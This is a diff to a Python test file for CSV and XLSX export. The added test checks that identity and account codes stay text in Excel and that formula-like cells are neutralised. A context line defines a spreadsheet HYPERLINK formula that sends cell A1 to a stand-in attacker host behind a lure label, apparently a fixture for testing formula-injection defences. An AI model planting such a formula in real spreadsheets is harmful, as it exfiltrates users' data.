@@ -12,7 +12,7 @@ from typing import Final
 import pytest
 from openpyxl import load_workbook
 
-from domain.exports import Sheet, csv_bytes, neutralise, xlsx_bytes
+from domain.exports import Cell, Sheet, csv_bytes, neutralise, xlsx_bytes
 
 HYPERLINK: Final = '=HYPERLINK("http://evil.example/?d="&A1,"点击领取培训补贴")'
 
@@ -131,3 +131,18 @@ def test_a_decimal_reads_the_same_in_csv_and_xlsx() -> None:
         (100, "0"),
         (0.5, "0.00"),
     ]
+
+
+def test_codes_in_text_columns_of_a_csv_stay_text_when_excel_opens_them() -> None:
+    rows: list[list[Cell]] = [
+        ["身份证号", "账号", "金额", "说明"],
+        ["53230119900312102X", "0062170000111122223", Decimal("15.00"), "123"],
+    ]
+
+    written = csv_bytes(rows, text_columns=(0, 1)).decode("utf-8-sig").splitlines()
+
+    # ="…" is text to Excel and WPS: no 5.32301E+17, no lost leading zeros. Other columns as written.
+    assert written[1] == '"=""53230119900312102X""","=""0062170000111122223""",15.00,123'
+    # Headers and formula-like text in a text column are still plain or neutralised text.
+    assert written[0] == "身份证号,账号,金额,说明"
+    assert csv_bytes([["=1+1"]], text_columns=(0,)).decode("utf-8-sig").strip() == "'=1+1"
